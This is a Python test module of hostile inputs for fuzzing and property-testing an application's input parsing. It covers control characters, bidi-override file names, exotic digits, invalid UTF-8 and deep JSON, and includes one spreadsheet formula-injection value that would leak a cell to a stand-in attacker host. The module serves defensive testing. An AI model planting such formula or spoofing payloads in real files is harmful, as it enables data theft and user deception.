"""Hostile strings, numbers and bytes for every interface that reads outside input.

Each class is a kind of input that has broken a parser, a database or a terminal
somewhere: the named examples are applied to every file command, and the hypothesis
strategies generate more of each kind for property tests.
"""

from __future__ import annotations

from hypothesis import strategies as st

#: One example of each hostile class a text field may receive.
TEXT: dict[str, str] = {
    "nul": "ab\x00cd",
    "control": "\x1b[31mred\x1b[0m",
    "line_break": "two\rlines",
    "bidi_override": "\u202egnp.exe",
    "arabic_indic_digits": "\u0668\u0660",
    "full_width_digits": "\uff18\uff10",
    "huge_number": "9" * 5_000,
    "long_field": "x" * 100_000,
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
}

#: The classes no text field accepts (the others are refused where a number or a month is
#: wanted, and kept as written in free text: a formula is data, never evaluated).
REFUSED_IN_TEXT = frozenset({"nul", "control", "line_break", "bidi_override", "long_field"})

#: Byte sequences that are not UTF-8.
INVALID_UTF8: dict[str, bytes] = {
    "lone_continuation": b"\x80",
    "latin1": "caf\xe9".encode("latin-1"),
    "overlong_slash": b"\xc0\xaf",
    "encoded_surrogate": b"\xed\xa0\x80",
    "truncated": b"\xe2\x82",
    "ff": b"\xff\xfe",
}

#: A JSON document nested 10,000 levels deep.
DEEP_JSON = "[" * 10_000 + "]" * 10_000


def non_ascii_digits() -> st.SearchStrategy[str]:
    """Numbers written in any script's decimal digits but ASCII (``int()`` reads them all)."""
    digit = st.characters(categories=["Nd"]).filter(lambda char: not char.isascii())
    return st.text(digit, min_size=1, max_size=6)


def control_text() -> st.SearchStrategy[str]:
    """Text holding at least one control character (C0, DEL, C1) or bidirectional override."""
    control = st.one_of(
        st.characters(categories=["Cc"]),
        st.sampled_from("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    )
    return st.tuples(st.text(max_size=5), control, st.text(max_size=5)).map("".join)


def huge_numbers() -> st.SearchStrategy[str]:
    """Whole numbers of 31 to 6,000 ASCII digits."""
    return st.integers(31, 6_000).map(lambda n: "1" + "0" * (n - 1))


def invalid_utf8() -> st.SearchStrategy[bytes]:
    """Byte strings that do not decode as UTF-8."""

    def broken(data: bytes) -> bool:
        try:
            data.decode("utf-8")
        except UnicodeDecodeError:
            return True
        return False

    return st.one_of(st.sampled_from(list(INVALID_UTF8.values())), st.binary(min_size=1).filter(broken))
